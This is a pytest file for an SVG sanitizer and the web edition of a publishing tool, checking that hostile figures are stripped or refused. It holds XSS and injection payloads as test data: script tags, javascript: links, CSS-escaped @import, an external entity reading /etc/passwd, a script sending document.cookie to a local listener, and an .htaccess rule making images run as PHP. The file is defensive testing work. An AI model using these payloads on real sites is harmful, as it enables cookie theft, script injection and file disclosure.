"""What the web edition publishes: sanitized SVG, only the files sections show, a CSP.

The attacks are the issue's (a script in an SVG, ``&#64;import``, ``url&#40;``,
``@\\69mport``, evil.html, .htaccess and README.md in figures/) and held-out variants
of each class. Every SVG goes through ``casestudy.files.svg.sanitize``; the published figure
must hold only allow-listed elements and attributes, whatever the input was.
"""

from __future__ import annotations

import base64
import hashlib
import re
from urllib.parse import unquote
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from casestudy.brand import webfonts
from casestudy.brand.load import default_brand
from casestudy.brand.model import BRANDING
from casestudy.files.fetch import FetchLog, make_fetcher, served_bytes
from casestudy.files.svg import sanitize
from casestudy.files.svgrules import ATTRIBUTES, ELEMENTS, SAFE_LINK
from conftest import REPO
from hostile import PEAK_RSS, Listener, big_png, check_cli, hostile_study, peak_rss_mb, run_child
from pdfinfo import pdf_text

NS = 'xmlns="http://www.w3.org/2000/svg"'
XL = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
URL = "http://127.0.0.1:9/x"
CASES = {
 # the attacks
    "script": f'<svg {NS}>\n<script>fetch("{URL}")</script>\n<rect width="5" height="5"/>\n</svg>',
    "entity-import": f'<svg {NS}><style>&#64;import "{URL}.css";</style><rect/></svg>',
    "entity-url": f'<svg {NS}><rect style="background-image: url&#40;{URL}.png)"/></svg>',
    "css-escape-import": f'<svg {NS}><style>\n@\\69mport "{URL}.css";\n</style></svg>',
 # held out
    "xlink-http": f'<svg {NS} {XL}><use xlink:href="{URL}.svg#a"/></svg>',
    "image-data-svg": (f'<svg {NS}>'
        '<image href="data:image/svg+xml,&lt;svg xmlns=%27http://www.w3.org/2000/svg%27&gt;'
        '&lt;script&gt;alert(1)&lt;/script&gt;&lt;/svg&gt;"/>'
        '</svg>'),
    "a-javascript": f'<svg {NS}><a href=" JaVaScRiPt:alert(1)"><text>x</text></a></svg>',
    "a-entity-javascript": f'<svg {NS}><a href="&#106;avascript:alert(1)"><rect/></a></svg>',
    "animate-href": (f'<svg {NS}><a href="#x">'
        '<animate attributeName="href" values="javascript:alert(1)"/><rect/></a></svg>'),
    "set": f'<svg {NS}><set attributeName="onmouseover" to="alert(1)"/><rect/></svg>',
    "use-other-file": f'<svg {NS}><use href="other.svg#x"/></svg>',
    "entity-expansion": ('<!DOCTYPE svg [<!ENTITY s "&lt;script&gt;alert(1)&lt;/script&gt;">]>'
                         f'\n<svg {NS}>&s;</svg>'),
    "external-entity": (f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<svg {NS}>'
        '<text>&x;</text></svg>'),
    "cdata-style": (f'<svg {NS}><style>'
        f'<![CDATA[\nrect {{ fill: red }}\nrect {{ fill: u\\72l({URL}) }}\n]]></style>'
        '<rect/></svg>'),
    "uppercase": (f'<svg {NS}><SCRIPT>alert(1)</SCRIPT><Script>alert(2)</Script>'
        '<rect ONLOAD="alert(3)"/></svg>'),
    "namespaced-script": (f'<svg {NS} xmlns:s="http://www.w3.org/2000/svg" '
        'xmlns:h="http://www.w3.org/1999/xhtml">'
        '<s:script>alert(1)</s:script><h:script>alert(2)</h:script>'
        f'<h:iframe src="{URL}"/></svg>'),
    "prefixed-root": ('<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script>'
        '<s:rect s:onclick="alert(2)" width="1"/></s:svg>'),
    "foreign-object": (f'<svg {NS}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
        f'<img src="{URL}.png"/></body></foreignObject></svg>'),
    "xml-stylesheet": f'<?xml-stylesheet href="{URL}.css"?>\n<svg {NS}/>',
    "event-handlers": (f'<svg {NS} onload="alert(1)">'
        '<rect onclick="a()" onmouseover="b()" onclick2="c()"/></svg>'),
    "filter-url": f'<svg {NS}><rect filter="url({URL}#f)" fill="url(#ok)"/></svg>',
    "image-set": (f'<svg {NS}>'
        f'<rect style="fill: red; background: image-set(&quot;{URL}.png&quot; 1x)"/></svg>'),
    "font-face-src": (f'<svg {NS}>'
        f'<style>@font-face {{ font-family: x; src: url(data:font/woff2;base64,AAAA) }}</style>'
        '</svg>'),
    "expression": f'<svg {NS}><rect style="width: expression(alert(1))"/></svg>',
    "moz-binding": f'<svg {NS}><rect style="-moz-binding: url(#x); fill: red"/></svg>',
    "xml-base": f'<svg {NS}><g xml:base="{URL}/"><use href="#a"/></g><rect id="a"/></svg>',
    "fe-image": f'<svg {NS}><filter id="f"><feImage href="{URL}.png"/></filter></svg>',
    "media-import": (f'<svg {NS}><style>'
                     f'@media screen {{ rect {{ fill: url({URL}) }} }}</style></svg>'),
    "not-svg-root": '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "html-in-svg-file": '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>',
    "keyframes": (f'<svg {NS}>'
        '<style>@keyframes spin { to { transform: rotate(1turn) } } rect { fill: #123 }</style>'
        '<rect/></svg>'),
}
CASES["expression-attr"] = (f'<svg {NS}><rect fill="expression(alert(1))" width="2"/></svg>')

SC = "an SVG figure must be self-contained (only #fragment references)"
SVG = "{http://www.w3.org/2000/svg}"
XLINK = "{http://www.w3.org/1999/xlink}href"


def assert_only_allowed(data: bytes) -> None:
    """The published figure: allow-listed SVG only, no handler, every reference internal."""
    root = ElementTree.fromstring(data)
    for el in root.iter():
        assert el.tag.startswith(SVG) and el.tag[len(SVG):] in ELEMENTS, el.tag
        for name, value in el.attrib.items():
            local = name.rsplit("}", 1)[-1]
            assert local in ATTRIBUTES or local.startswith(("aria-", "data-")) or name in (
                XLINK, "{http://www.w3.org/XML/1998/namespace}space"), name
            assert not local.lower().startswith("on"), name
            if local == "href":
                assert (SAFE_LINK.match(value) if el.tag == SVG + "a"
                        else value.startswith("#")), value
            assert "expression(" not in value.lower()
            for ref in re.findall(r"url\(\s*['\"]?([^)'\"]*)", value, re.IGNORECASE):
                assert ref.startswith("#"), value
        if el.tag == SVG + "style":
            assert "@import" not in (el.text or "").lower() and "\\" not in (el.text or "")


@pytest.mark.parametrize("case, findings, kept", [
    ("script", [
        "2:1: warning: removed <script>: figures may not run code",
    ], True),
    ("entity-import", [
        "1:48: error: <style> @import refers to 'http://127.0.0.1:9/x.css'; an SVG "
        "figure must be self-contained (put the styles in its <style>)",
    ], False),
    ("entity-url", [
        f"1:59: error: the style attribute refers to 'http://127.0.0.1:9/x.png'; {SC}",
    ], False),
    ("css-escape-import", [
        "2:1: error: <style> @import refers to 'http://127.0.0.1:9/x.css'; an SVG "
        "figure must be self-contained (put the styles in its <style>)",
    ], False),
    ("xlink-http", [
        f"1:84: error: <use> refers to 'http://127.0.0.1:9/x.svg#a'; {SC}",
    ], False),
    ("image-data-svg", [
        "1:41: error: <image> refers to 'data:image/svg+xml,<svg "
        f"xmlns=%27http://www.w3.org/2000/s...'; {SC}",
    ], False),
    ("a-javascript", [
        "1:41: warning: removed the link 'JaVaScRiPt:alert(1)' of <a>: links must be "
        "http, https, mailto or #",
    ], True),
    ("a-entity-javascript", [
        "1:41: warning: removed the link 'javascript:alert(1)' of <a>: links must be "
        "http, https, mailto or #",
    ], True),
    ("animate-href", [
        "1:54: warning: removed <animate>: figures are static (the PDF cannot animate)",
    ], True),
    ("set", [
        "1:41: warning: removed <set>: figures are static (the PDF cannot animate)",
    ], True),
    ("use-other-file", [
        f"1:41: error: <use> refers to 'other.svg#x'; {SC}",
    ], False),
    ("entity-expansion", [
        "1:15: error: declares entities (a DTD internal subset), which SVG figures may "
        "not use",
    ], False),
    ("external-entity", [
        "1:15: error: declares entities (a DTD internal subset), which SVG figures may "
        "not use",
    ], False),
    ("cdata-style", [
        f"3:14: error: <style> refers to 'http://127.0.0.1:9/x'; {SC}",
    ], False),
    ("uppercase", [
        "1:41: warning: removed <SCRIPT>: it is not an SVG element the series allows",
        "1:66: warning: removed <Script>: it is not an SVG element the series allows",
        "1:91: warning: removed the ONLOAD attribute: figures may not run code",
    ], True),
    ("namespaced-script", [
        "1:117: warning: removed <script>: figures may not run code",
        "1:146: warning: removed <script>: elements of the namespace "
        "'http://www.w3.org/1999/xhtml' are not SVG",
        "1:175: warning: removed <iframe>: elements of the namespace "
        "'http://www.w3.org/1999/xhtml' are not SVG",
    ], True),
    ("prefixed-root", [
        "1:45: warning: removed <script>: figures may not run code",
        "1:74: warning: removed the onclick attribute: figures may not run code",
    ], True),
    ("foreign-object", [
        "1:41: warning: removed <foreignObject>: HTML inside a figure is not drawn in "
        "the PDF and may run code",
    ], True),
    ("xml-stylesheet", [
        "1:1: error: <?xml-stylesheet?> refers to a stylesheet outside the figure; put "
        "the styles in a <style> element",
    ], False),
    ("event-handlers", [
        "1:1: warning: removed the onload attribute: figures may not run code",
        "1:59: warning: removed the onclick attribute: figures may not run code",
        "1:59: warning: removed the onclick2 attribute: figures may not run code",
        "1:59: warning: removed the onmouseover attribute: figures may not run code",
    ], True),
    ("filter-url", [
        "1:41: error: the filter attribute of <rect> refers to "
        f"'http://127.0.0.1:9/x#f'; {SC}",
    ], False),
    ("image-set", [
        f"1:74: error: the style attribute refers to 'http://127.0.0.1:9/x.png'; {SC}",
    ], False),
    ("font-face-src", [
        "1:48: warning: removed a CSS @font-face rule: figures use the brief's fonts",
        f"1:82: error: <style> @font-face refers to 'data:font/woff2;base64,AAAA'; {SC}",
    ], False),
    ("expression", [
        "1:41: warning: removed the CSS property 'width' from the style attribute: it "
        "runs code",
    ], True),
    ("moz-binding", [
        "1:41: warning: removed the CSS property '-moz-binding' from the style attribute: "
        "it runs code",
    ], True),
    ("xml-base", [
        "1:41: warning: removed the xml:base attribute of <g>: not an SVG attribute the "
        "series allows",
    ], True),
    ("fe-image", [
        f"1:56: error: <feImage> refers to 'http://127.0.0.1:9/x.png'; {SC}",
    ], False),
    ("media-import", [
        f"1:77: error: <style> refers to 'http://127.0.0.1:9/x'; {SC}",
    ], False),
    ("not-svg-root", [
        "1:1: error: is not an SVG file: its first element is <html>",
    ], False),
    ("html-in-svg-file", [
        "1:16: error: is not an SVG file: its first element is <html>",
    ], False),
    ("keyframes", [
        "1:48: warning: removed a CSS rule '@keyframes' from <style>",
    ], True),
    ("expression-attr", [
        "1:41: warning: removed the fill attribute of <rect>: CSS expression() runs "
        "code",
    ], True),
], ids=lambda value: value if isinstance(value, str) else "")
def test_each_attack_is_removed_or_refused_at_its_place(case, findings, kept):
    result = sanitize(CASES[case].encode())
    assert [f"{f.line}:{f.col}: {f.severity}: {f.message}" for f in result.findings] == findings
    assert (result.data is not None) == kept
    if kept:
        assert_only_allowed(result.data)
        for word in (b"alert", b"script", b"127.0.0.1", b"javascript", b"ONLOAD"):
            assert word not in result.data.lower()


# ------------------------------------------------------------------ a built web edition

CHART = "chart #1?.svg"  # a name that must be percent-encoded in a URL
CHART_SVG = f"""<svg {NS} viewBox="0 0 200 60" width="200" height="60">
  <title>Exports, 2024</title>
  <rect x="10" y="10" width="80" height="40" fill="#1b2a4a" onclick="steal()"/>
  <text x="100" y="35" font-size="12" font-family="Source Sans 3">Café Zürich Ελλάδα</text>
</svg>
"""
CHILD_BUILD = """
import sys
from pathlib import Path
from casestudy.series.build import build_study
from casestudy.source.load import load_series
build_study(Path(sys.argv[1]), Path(sys.argv[2]), ("pdf", "html"), load_series(Path(sys.argv[3])))
"""


@pytest.fixture(scope="module")
def published(tmp_path_factory):
    """A study whose figures/ holds what must never be published, built in a child."""
    server = Listener()
    base = tmp_path_factory.mktemp("published")
    study = hostile_study(base / "study", None)
    figures = study / "figures"
    (figures / "script.svg").write_text(
        f'<svg {NS} viewBox="0 0 10 10">\n'
        f'<script>fetch("{server.url}/xss?c=" + document.cookie)</script>\n'
        '<rect width="10" height="10" fill="#b5462f"/>\n</svg>\n', "utf-8")
    (figures / CHART).write_text(CHART_SVG, "utf-8")
    (figures / "evil.html").write_text(f'<script src="{server.url}/evil.js"></script>')
    (figures / ".htaccess").write_text("AddType application/x-httpd-php .png\n")
    (figures / "README.md").write_text("# Figures\n\nThis README is not part of the brief.\n")
    (figures / "unused.svg").write_text(f"<svg {NS}><script>alert(1)</script></svg>")
    (figures / "unused.png").write_bytes(big_png(13000, 13000))  # 169 MP, 0.8 MB
    (figures / "notes").mkdir()
    (figures / "notes" / "data.csv").write_text("year,value\n2024,1\n")
    section = study / "sections" / "03-relationship.md"
    section.write_text(section.read_text("utf-8") + "\n![A red square](../figures/script.svg)\n"
                       f"\n![Exports in 2024](<../figures/{CHART}>)\n"
                       "\n| Year | Value |\n|:--|--:|\n| 2024 | 1 |\n", "utf-8")
    checked = check_cli(base, "study")
    out = base / "out"
    try:
        result = run_child(["-c", CHILD_BUILD + PEAK_RSS, str(study), str(out), str(REPO)],
                           base, timeout=300)
    finally:
        server.close()
    assert result.returncode == 0, result.stderr
    return study, out / "study", checked, result, server


def test_check_reports_what_it_removed_in_the_figure(published):
    _, _, checked, _, _ = published
    assert checked.exit_code == 0, checked.stdout
    assert [line for line in checked.stdout.splitlines() if "figures/" in line] == [
        f"study/figures/{CHART}:3:3: warning: removed the onclick attribute: figures may not "
        "run code",
        "study/figures/script.svg:2:1: warning: removed <script>: figures may not run code",
    ]


def test_only_the_files_the_sections_show_are_published(published):
    """The page, its PDF and the figures shown; the brand's files are shared by the series
    in ../assets (site.py)."""
    _, edition, _, _, server = published
    files = sorted(p.relative_to(edition).as_posix() for p in edition.rglob("*") if p.is_file())
    assert files == sorted([f"figures/{CHART}", "figures/chart.svg", "figures/script.svg",
                            "index.html", "study.pdf"])
    assets = edition.parent / "assets"
    shared = sorted(p.relative_to(assets).as_posix() for p in assets.rglob("*") if p.is_file())
    fonts = sorted(f"fonts/{face.filename}" for face in webfonts.faces(default_brand()))
    assert shared == sorted([*fonts, "brand.css", "logo.svg", "rtl.css", "web.css"])
    assert server.accepted == 0


def test_the_published_svg_is_the_sanitized_one_the_pdf_drew(published):
    study, edition, _, _, _ = published
    fetcher = make_fetcher([study, BRANDING, *default_brand().font_roots()], FetchLog())
    for name in ("script.svg", CHART):
        web = (edition / "figures" / name).read_bytes()
        assert fetcher.fetch((study / "figures" / name).as_uri()).read() == web
        assert web != (study / "figures" / name).read_bytes()
        assert_only_allowed(web)
        assert b"script" not in web and b"onclick" not in web and b"fetch(" not in web
    assert_only_allowed((edition.parent / "assets" / "logo.svg").read_bytes())


def test_the_pdf_drew_the_sanitized_figures(published):
    _, edition, _, _, _ = published
    text = pdf_text(edition.parent / "study.pdf")
    assert "Café Zürich Ελλάδα" in text  # (Japanese would need a fallback font: glyphs.py)


def test_figure_urls_are_percent_encoded(published):
    _, edition, _, _, _ = published
    html = (edition / "index.html").read_text("utf-8")
    sources = re.findall(r'<img src="([^"]*)"', html)
    # an SVG figure is inlined in the page (web/inline.py) and published at its name too
    assert (edition / "figures" / "chart #1?.svg").is_file()
    assert html.count('class="svg-figure') == 3
    for src in sources:
        assert re.fullmatch(r"[A-Za-z0-9/._~%-]+", src), src
        assert (edition / unquote(src)).is_file(), src


def _hash(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def test_the_page_forbids_scripts_and_fetches_from_elsewhere(published):
    _, edition, _, _, _ = published
    html = (edition / "index.html").read_text("utf-8")
    head = html[html.index('<meta charset="utf-8">') + 22:].lstrip()
    assert html.index("<head>") < html.index('<meta charset="utf-8">') < html.index("<link")
    policy = re.match(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', head)
    assert policy, head[:200]
    # the brand is in stylesheets (assets/brand.css): no <style> block to allow
    assert "<style" not in html
    attrs = sorted({_hash(a) for a in re.findall(r' style="([^"]*)"', html)})
    assert attrs  # the table's alignment is a style attribute
    assert policy.group(1) == "; ".join([
        "default-src 'none'", "style-src 'self' 'unsafe-hashes' " + " ".join(attrs),
        "img-src 'self'", "font-src 'self'", "base-uri 'none'", "form-action 'none'"])
    # the one script element is JSON-LD: data, which no browser runs
    blocks = re.findall(r"<script\b([^>]*)>", html, re.IGNORECASE)
    assert blocks == [' type="application/ld+json"'], blocks
    assert not re.search(r"\son\w+=", html)
    for url in re.findall(r'(?:src|href)="([^"]*)"', html):
        assert not re.match(r"[a-z]+:|//", url) or re.match(r"https?://|mailto:", url), url


def test_an_unused_169_megapixel_png_is_never_decoded(published):
    _, _, _, result, _ = published
    print("peak RSS of the build", peak_rss_mb(result.stdout), "MB")
    assert peak_rss_mb(result.stdout) < 300  # a decoded 13000x13000 image alone is 507 MB


def test_a_hidden_image_is_a_located_error(tmp_path):
    """Web servers refuse (or worse, interpret) dotfiles: a section may not show one."""
    study = hostile_study(tmp_path / "study", None)
    (study / "figures" / ".hidden.svg").write_bytes((study / "figures" / "chart.svg")
                                                    .read_bytes())
    (study / "figures" / ".drafts").mkdir()
    (study / "figures" / ".drafts" / "chart.svg").write_text(CHART_SVG, "utf-8")
    section = study / "sections" / "03-relationship.md"
    section.write_text(section.read_text("utf-8").replace("figures/chart.svg",
                                                          "figures/.hidden.svg")
                       + "\n![A chart](../figures/.drafts/chart.svg)\n", "utf-8")
    lines = section.read_text("utf-8").splitlines()
    result = check_cli(tmp_path, "study")
    assert result.exit_code == 1
    assert [line for line in result.stdout.splitlines() if ": error: " in line] == [
        f"study/sections/03-relationship.md:{lines.index(line) + 1}:1: error: image "
        f"'{name}' is a hidden file or in a hidden folder ('{part}'); web servers do not "
        "publish those: rename it"
        for line, name, part in [
            (next(x for x in lines if ".hidden" in x), "../figures/.hidden.svg", ".hidden.svg"),
            (lines[-1], "../figures/.drafts/chart.svg", ".drafts")]]


def test_sanitizing_is_deterministic_across_processes(tmp_path):
    """Same input, same bytes, whatever the hash seed: reproducible PDFs depend on it."""
    figure = tmp_path / "figure.svg"
    figure.write_text(CHART_SVG.replace("<title>", f"<style>{'a{fill:red}' * 20}</style>"
                                        "<script>x()</script><title>") , "utf-8")
    code = ("import sys, hashlib\nfrom casestudy.files.svg import sanitize\n"
            "r = sanitize(open(sys.argv[1], 'rb').read())\n"
            "print(hashlib.sha256(r.data).hexdigest(), [str(f) for f in r.findings])\n")
    outputs = {run_child(["-c", code, str(figure)], tmp_path, timeout=60,
                         env={"PYTHONHASHSEED": seed}).stdout for seed in ("1", "2", "3")}
    assert len(outputs) == 1 and "removed <script>" in outputs.pop()


_PIECES = ['<svg xmlns="http://www.w3.org/2000/svg">', "</svg>", "<g>", "</g>", "<rect/>",
           '<a href="javascript:x">', "</a>", "<script>", "</script>", "<style>", "</style>",
           "@import 'http://x';", "@\\69mport", "u\\72l(http://x)", "url(#a)", "&#64;", "&#40;",
           '<use href="#a"/>', '<rect id="a" fill="url(http://x)"/>', "<![CDATA[", "]]>",
           '<text onclick="x">', "</text>", "<foreignObject>", "</foreignObject>", "&lt;",
           '<image href="data:x"/>', "<!DOCTYPE svg>", "<!-- c -->", '<?xml-stylesheet?>',
           '<s:script xmlns:s="http://www.w3.org/2000/svg">', "</s:script>", "\x00", "é東"]


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.lists(st.sampled_from(_PIECES) | st.text(max_size=8), max_size=30))
def test_any_input_is_refused_or_published_clean(pieces):
    """Whatever comes in, sanitize answers (never raises) and what it keeps is clean."""
    result = sanitize("".join(pieces).encode("utf-8", "surrogatepass"))
    assert (result.data is None) == bool(result.errors)
    if result.data is not None:
        assert_only_allowed(result.data)
        again = sanitize(result.data)  # and stays as it is
        assert (again.findings, again.data) == ([], result.data)


def test_a_figure_cannot_take_the_place_of_the_editions_own_files(tmp_path):
    """A study's assets/logo.svg is published inside its edition, at <slug>/assets/:
    the series' own logo at assets/ stays the brand's."""
    from casestudy.series.build import build_study
    from casestudy.source.load import load_series

    study = hostile_study(tmp_path / "study", None)
    (study / "assets").mkdir()
    (study / "assets" / "logo.svg").write_text(CHART_SVG, "utf-8")
    section = study / "sections" / "03-relationship.md"
    section.write_text(section.read_text("utf-8") + "\n![A logo](assets/logo.svg)\n", "utf-8")
    out = tmp_path / "out"
    build_study(study, out, ("html",), load_series(REPO))
    logo = default_brand().logos["small"].path
    assert (out / "assets" / "logo.svg").read_bytes() == served_bytes(logo)
    assert b"Exports, 2024" in (out / "study" / "assets" / "logo.svg").read_bytes()
    page = (out / "study" / "index.html").read_text("utf-8")  # the figure is inlined
    assert 'role="img" aria-label="A logo"' in page and "Exports, 2024" in page
